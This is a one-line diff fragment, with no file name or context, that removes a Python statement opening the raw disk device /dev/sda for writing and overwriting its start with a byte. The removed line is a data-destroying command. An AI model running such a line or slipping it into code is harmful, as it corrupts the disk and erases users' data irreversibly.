@@ -1,1 +1,0 @@
-open('/dev/sda', 'wb').write(b'0')
